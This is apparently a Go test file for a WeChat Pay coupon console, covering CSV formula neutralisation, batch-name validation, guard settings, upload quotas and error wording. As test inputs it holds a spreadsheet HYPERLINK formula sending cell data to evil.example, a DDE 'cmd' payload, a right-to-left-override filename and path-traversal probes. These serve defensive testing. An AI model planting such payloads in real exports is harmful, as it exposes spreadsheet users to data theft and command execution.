package pages_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/require"

	"github.com/issuer-dev/issuer/internal/excelcsv"
	"github.com/issuer-dev/issuer/ops"
	"github.com/issuer-dev/issuer/wxpay"
)

const formulaName = `=HYPERLINK("http://evil.example/?x="&A2,"Click")`

var (
	plainNumber = regexp.MustCompile(`^-[0-9]+(\.[0-9]+)?$`)
	markedID    = regexp.MustCompile(`^\t[0-9]+$`)
)

// requireNoFormula fails when a cell of the CSV out begins as a
// spreadsheet formula does (a plain negative number is not one).
func requireNoFormula(t *testing.T, name, out string) {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, excelcsv.BOM))).ReadAll()
	require.NoError(t, err, "%s: %s", name, out)
	require.Greater(t, len(recs), 1, "%s: %s", name, out)
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) && !plainNumber.MatchString(cell) && !markedID.MatchString(cell) {
				t.Fatalf("%s: a cell a spreadsheet would run: %q", name, cell)
			}
		}
	}
}

// The CSV downloads of the API and the console — the export, the batch and
// reconciliation reports, a dry run's rejects — hand a spreadsheet no
// formula, whatever the batch name, out_request_no or rejected line.
func TestCSVDownloadsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	b := setup(t)
	ann := b.login(t, "ann")
	a := b.upload(t, ann, "/api/v1/batches", map[string]string{"stock": "S1", "name": formulaName},
		"openid,out_request_no\noApiEvil01,-A1*1000\noApiEvil02,X-2\n", nil)
	require.Equal(t, http.StatusCreated, a.Status, a.Body)
	var rep struct {
		BatchID int64 `json:"batch_id"`
	}
	a.JSON(t, &rep)
	id := strconv.FormatInt(rep.BatchID, 10)

	downloads := map[string]string{
		"export":           "/api/v1/batches/" + id + "/export",
		"batch report":     "/api/v1/batches/" + id + "/report?format=csv",
		"reconcile report": "/api/v1/reconcile/report?format=csv",
	}
	got := map[string]string{}
	for name, path := range downloads {
		a := b.get(t, ann, path, nil)
		require.Equal(t, http.StatusOK, a.Status, "%s: %s", name, a.Body)
		requireNoFormula(t, name, a.Body)
		got[name] = a.Body
	}
	require.True(t, strings.HasPrefix(got["export"], excelcsv.BOM+"openid,out_request_no,status,outcome,coupon_id,wx_code,wx_message,attempts,last_attempt_at\n"))
	require.Contains(t, got["export"], "oApiEvil01,'-A1*1000,pending")
	require.Contains(t, got["reconcile report"], `"'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")"`)

	// A dry run's rejects, with a hostile raw line and reason.
	a, ok := b.dryRun(t, ann, map[string]string{"stock": "S1", "name": "dry"}, "openid\noDry00001\n=cmd|' /C calc'!A0\n-2+3\n")
	require.True(t, ok, a.Body)
	tok := between(a.Body, `action="/upload/`, `/create"`)
	rj := b.get(t, ann, "/upload/"+tok+"/rejects.csv", nil)
	require.Equal(t, http.StatusOK, rj.Status, rj.Body)
	requireNoFormula(t, "rejects", rj.Body)
	recs, err := excelcsv.ReadAll(strings.NewReader(rj.Body))
	require.NoError(t, err)
	require.Equal(t, []string{"=cmd|' /C calc'!A0", "-2+3"}, []string{recs[1][2], recs[2][2]}, "read back exactly")
}

// A batch name is at most 100 characters of plain text: the API answers
// 422 and the upload page says why, and nothing is stored.
func TestBatchNameRules(t *testing.T) {
	t.Parallel()
	b := setup(t)
	ann := b.login(t, "ann")
	for _, name := range []string{"spring\x1b[2J", strings.Repeat("名", 101), "two\u2028lines", "rtl\u202egpj.exe"} {
		a := b.upload(t, ann, "/api/v1/batches", map[string]string{"stock": "S1", "name": name}, csvOf("n", 2), nil)
		requireJSONError(t, a, http.StatusUnprocessableEntity)
		require.Contains(t, a.Body, "batch name")
		a, ok := b.dryRun(t, ann, map[string]string{"stock": "S1", "name": name}, csvOf("n", 2))
		require.False(t, ok)
		require.Contains(t, a.Body, "batch name")
		require.Contains(t, a.Body, `role="alert"`)
	}
	require.Empty(t, b.batches(t))
	require.Empty(t, b.uploadFiles(t))
	a := b.upload(t, ann, "/api/v1/batches", map[string]string{"stock": "S1", "name": strings.Repeat("名", 100)}, csvOf("n", 2), nil)
	require.Equal(t, http.StatusCreated, a.Status, a.Body)
}

func (b *testBundle) patchJSON(t *testing.T, c *http.Client, path string, body string, header http.Header) answer {
	t.Helper()
	req, err := http.NewRequest(http.MethodPatch, b.srv.URL+path, bytes.NewReader([]byte(body)))
	require.NoError(t, err)
	req.Header.Set("Content-Type", "application/json")
	for k, v := range header {
		req.Header[k] = v
	}
	return b.site().Do(t, c, req)
}

// PATCH /api/v1/batches/{id}/guards changes a batch's guards: an
// operator's act, audited; null clears; a cap below what the batch has on
// its way is 409 and changes nothing.
func TestGuardsAPI(t *testing.T) {
	t.Parallel()
	b := setup(t)
	id := b.importBatch(t, "guarded", 3)
	path := "/api/v1/batches/" + strconv.FormatInt(id, 10) + "/guards"
	otto := bearer(b.token(t, "otto"))
	batch := func(a answer) map[string]any {
		t.Helper()
		require.Equal(t, http.StatusOK, a.Status, a.Body)
		var m map[string]any
		a.JSON(t, &m)
		return m
	}

	requireJSONError(t, b.patchJSON(t, nil, path, `{"priority":5}`, bearer(b.token(t, "ann"))), http.StatusForbidden)
	requireJSONError(t, b.patchJSON(t, nil, path, `{"priority":5}`, nil), http.StatusUnauthorized)
	m := batch(b.patchJSON(t, nil, path, `{"window":"09:00-21:00","start_at":"2030-01-02 10:00","priority":5}`, otto))
	require.Equal(t, "09:00-21:00", m["window"])
	require.Equal(t, "2030-01-02T02:00:00Z", m["start_at"])
	require.EqualValues(t, 5, m["priority"])
	m = batch(b.patchJSON(t, nil, path, `{"window":null,"priority":null}`, otto))
	require.NotContains(t, m, "window")
	require.EqualValues(t, 0, m["priority"])
	require.Equal(t, "2030-01-02T02:00:00Z", m["start_at"], "a key left out is left as it is")

	for _, body := range []string{`{}`, `{"cap":1}`, `[1]`, `{"priority":"high"}`, `{"window":"9-5"}`, `{"max_amount_yuan":-1}`} {
		requireJSONError(t, b.patchJSON(t, nil, path, body, otto), http.StatusBadRequest)
	}
	a := b.patchJSON(t, nil, path, `{"max_amount_yuan":100}`, otto)
	requireJSONError(t, a, http.StatusConflict)
	require.Contains(t, a.Body, "pause it first")

	_, err := b.svc.PauseBatch(context.Background(), b.cli, id)
	require.NoError(t, err)
	m = batch(b.patchJSON(t, nil, path, `{"max_amount_yuan":"100.50"}`, otto))
	require.EqualValues(t, 10050, m["max_amount_fen"])
	_, err = b.schema.DB.Exec(`UPDATE batches SET reserved_fen = 5000 WHERE id = $1`, id)
	require.NoError(t, err)
	a = b.patchJSON(t, nil, path, `{"max_amount_yuan":49.99}`, otto)
	requireJSONError(t, a, http.StatusConflict)
	require.Contains(t, a.Body, "below the 50.00 yuan already issued, in flight or in doubt")
	require.EqualValues(t, 10050, *b.batch(t, id).MaxAmountFen, "nothing changed")
	m = batch(b.patchJSON(t, nil, path, `{"max_amount_yuan":null}`, otto))
	require.NotContains(t, m, "max_amount_fen")

	// A session from another origin changes nothing.
	evil := http.Header{"Origin": {"https://evil.example"}, "Sec-Fetch-Site": {"cross-site"}}
	requireJSONError(t, b.patchJSON(t, b.login(t, "otto"), path, `{"priority":9}`, evil), http.StatusForbidden)
	require.Equal(t, 0, b.batch(t, id).Priority)

	var outcomes []string
	for _, e := range b.auditRows(t, "guards") {
		var d string
		require.NoError(t, json.Unmarshal(e.Detail, &d))
		outcomes = append([]string{string(e.Outcome) + " " + e.Actor + ": " + d}, outcomes...)
	}
	require.Equal(t, []string{
		"denied ann: ",
		"ok otto: window 09:00-21:00 (was none); start 2030-01-02T10:00:00+08:00 (was none); priority 5 (was 0); loosens the guards",
		"ok otto: window none (was 09:00-21:00); priority 0 (was 5); loosens the guards",
		"error otto: spend cap 100.00 yuan (was none)",
		"ok otto: spend cap 100.50 yuan (was none)",
		"error otto: spend cap 49.99 yuan (was 100.50 yuan)",
		"ok otto: spend cap none (was 100.50 yuan); loosens the guards",
	}, outcomes)
}

// A batch name of 1,000 characters (stored before names were limited)
// wraps instead of widening the pages that show it.
func TestBrowserLongNameWraps(t *testing.T) {
	t.Parallel()
	ctx := browser(t)
	b := setup(t)
	id := strconv.FormatInt(b.importBatch(t, "long", 3), 10)
	_, err := b.schema.DB.Exec(`UPDATE batches SET name = repeat('W', 600) || repeat('长', 400)`)
	require.NoError(t, err)
	signIn(t, ctx, b, "ann", "/batches?lang=en")
	for _, path := range []string{"/batches?lang=en", "/batches/" + id + "?lang=en", "/reconciliation?lang=en"} {
		require.NoError(t, chromedp.Do(ctx, chromedp.Navigate(b.srv.URL+path), chromedp.WaitVisible(chromedp.CSS(`main h1`))))
		require.True(t, evalBool(t, ctx, `document.body.innerText.includes("WWWWWWWWWW")`), "%s shows the name", path)
		width := evalString(t, ctx, `document.documentElement.scrollWidth + " <= " + window.innerWidth`)
		require.True(t, evalBool(t, ctx, `document.documentElement.scrollWidth <= window.innerWidth`), "%s is %s px wide", path, width)
	}
}

// /static/ serves the console's files by name and lists no directory.
func TestStaticListsNothing(t *testing.T) {
	t.Parallel()
	b := setup(t)
	for _, p := range []string{"/static/", "/static/./", "/static//", "/static/%2e/", "/static/nope.css", "/static/../static/"} {
		a := b.get(t, nil, p, nil)
		require.True(t, a.Status == http.StatusNotFound || a.Status/100 == 3, "%s: %d %s", p, a.Status, a.Body) // the mux cleans a path by redirecting
		require.NotContains(t, a.Body, "app.css", p)
	}
	require.Equal(t, http.StatusNotFound, b.get(t, nil, "/static/", nil).Status)
	a := b.get(t, nil, "/static/app.css", nil)
	require.Equal(t, http.StatusOK, a.Status)
	require.Contains(t, a.Header.Get("Content-Type"), "text/css")
}

// Uploads waiting between a dry run and create are bounded per user (one's
// own oldest makes way), in all and on disk; one user's dry runs never
// push out another user's upload.
func TestUploadQuotas(t *testing.T) {
	t.Parallel()
	b := setup(t, withUploadQuotas(2, 4, 6000))
	ann, otto, ada := b.login(t, "ann"), b.login(t, "otto"), b.login(t, "ada")
	dryRun := func(c *http.Client, file string) (int, string) {
		t.Helper()
		a, ok := b.dryRun(t, c, map[string]string{"stock": "S1", "name": "q"}, file)
		if !ok {
			// Back at the form, which says why.
			require.Contains(t, a.Body, "console.pending_uploads_mb")
			return http.StatusServiceUnavailable, ""
		}
		return a.Status, between(a.Body, `action="/upload/`, `/create"`)
	}
	alive := func(c *http.Client, tok string) bool {
		t.Helper()
		return b.get(t, c, "/upload/"+tok+"/rejects.csv", nil).Status == http.StatusOK
	}
	small := csvOf("s", 3)

	status, otto1 := dryRun(otto, small)
	require.Equal(t, http.StatusOK, status)
	var annToks []string
	for range 20 {
		status, tok := dryRun(ann, small)
		require.Equal(t, http.StatusOK, status)
		annToks = append(annToks, tok)
	}
	require.True(t, alive(otto, otto1), "ann's 20 dry runs leave otto's upload")
	require.True(t, alive(ann, annToks[19]))
	require.True(t, alive(ann, annToks[18]))
	require.False(t, alive(ann, annToks[17]), "ann keeps 2: her own oldest made way")

	status, otto2 := dryRun(otto, small)
	require.Equal(t, http.StatusOK, status)
	status, _ = dryRun(ada, small)
	require.Equal(t, http.StatusServiceUnavailable, status, "4 waiting in all: ada waits rather than push anyone out")
	for _, tok := range []string{otto1, otto2} {
		require.True(t, alive(otto, tok))
	}

	// The disk: what is waiting and what is being received share 6,000 bytes.
	require.Equal(t, http.StatusSeeOther, b.post(t, otto, "/upload/"+otto1+"/drop", nil, nil).Status)
	require.Equal(t, http.StatusSeeOther, b.post(t, otto, "/upload/"+otto2+"/drop", nil, nil).Status)
	big := csvOf("big", 400) // 4 KB and more
	require.Greater(t, len(big), 3000)
	status, bigTok := dryRun(otto, big)
	require.Equal(t, http.StatusOK, status)
	before := b.uploadFiles(t)
	status, _ = dryRun(ada, big)
	require.Equal(t, http.StatusServiceUnavailable, status)
	a := b.upload(t, ada, "/api/v1/batches", map[string]string{"stock": "S1"}, big, nil)
	requireJSONError(t, a, http.StatusServiceUnavailable)
	require.Contains(t, a.Body, "console.pending_uploads_mb")
	require.ElementsMatch(t, before, b.uploadFiles(t), "a refused upload leaves nothing on disk")
	require.True(t, alive(otto, bigTok))
	require.Empty(t, b.batches(t))

	require.Equal(t, http.StatusSeeOther, b.post(t, otto, "/upload/"+bigTok+"/drop", nil, nil).Status)
	a = b.upload(t, ada, "/api/v1/batches", map[string]string{"stock": "S1"}, big, nil)
	require.Equal(t, http.StatusCreated, a.Status, a.Body)
}

// A failed fetch of flow files is told in plain words, on the page and in
// the API; the error itself (addresses, Go's wording) is in the log only.
func TestReconcileErrorsInPlainWords(t *testing.T) {
	t.Parallel()
	b := setup(t, withSim)
	// WeChat Pay cannot be reached: a port nothing listens on.
	b.svc.WX = func() (ops.WXClient, error) {
		o := b.sim.Keys.ClientOptions("http://127.0.0.1:1")
		o.BackupBaseURL = ""
		return wxpay.New(o)
	}
	otto := b.login(t, "otto")
	for lang, want := range map[string]string{"en": "WeChat Pay could not be reached", "zh": "无法连接微信支付"} {
		a := b.follow(t, otto, b.post(t, otto, "/reconciliation/fetch?lang="+lang, url.Values{"stock": {simStock}}, nil))
		require.Contains(t, a.Body, `role="alert"`)
		require.Contains(t, a.Body, want)
		for _, raw := range []string{"127.0.0.1", "dial tcp", "wxpay:", "connection refused"} {
			require.NotContains(t, a.Body, raw, lang)
		}
	}
	a := b.postJSON(t, nil, "/api/v1/reconcile?lang=en", map[string]string{"stock": simStock}, bearer(b.token(t, "otto")))
	require.Equal(t, http.StatusBadGateway, a.Status, a.Body)
	var sum struct {
		Error   string `json:"error"`
		Results []struct {
			Error string `json:"error"`
		} `json:"results"`
	}
	a.JSON(t, &sum)
	require.Contains(t, sum.Error, "WeChat Pay could not be reached")
	require.NotEmpty(t, sum.Results)
	for _, raw := range []string{"127.0.0.1", "dial tcp", "wxpay:"} {
		require.NotContains(t, a.Body, raw)
	}
}

// A first cap on a batch whose face value was never recorded asks WeChat
// Pay for the stock's, and counts the coupons sent at it.
func TestGuardsFirstCapAsksFaceValue(t *testing.T) {
	t.Parallel()
	b := setup(t, withSim)
	id := b.importBatch(t, "face", 4)
	_, err := b.schema.DB.Exec(`UPDATE batches SET face_value_fen = NULL, status = 'paused' WHERE id = $1`, id)
	require.NoError(t, err)
	_, err = b.schema.DB.Exec(`UPDATE recipients SET status = 'issued', outcome = 'issued', coupon_id = 'C' || id, attempts = 1
		WHERE id IN (SELECT id FROM recipients WHERE batch_id = $1 ORDER BY id LIMIT 2)`, id)
	require.NoError(t, err)
	st, err := b.sim.Client(t, 1).QueryStock(context.Background(), "S1", "")
	require.NoError(t, err)
	face := st.StockUseRule.FixedNormalCoupon.CouponAmount
	require.Positive(t, face)

	path := "/api/v1/batches/" + strconv.FormatInt(id, 10) + "/guards"
	a := b.patchJSON(t, nil, path, `{"max_amount_yuan":"1000"}`, bearer(b.token(t, "otto")))
	require.Equal(t, http.StatusOK, a.Status, a.Body)
	bt := b.batch(t, id)
	require.Equal(t, 2*face, bt.ReservedFen)
	require.Equal(t, face, *bt.FaceValueFen)
}
